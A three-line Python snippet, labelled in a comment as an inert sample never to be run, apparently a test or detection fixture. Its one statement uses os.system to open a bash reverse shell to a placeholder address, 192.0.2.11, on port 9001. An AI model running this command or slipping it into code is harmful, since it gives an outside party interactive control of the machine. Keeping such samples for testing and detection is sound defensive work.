# INERT SAMPLE: never run.
import os
os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.11/9001 0>&1'")
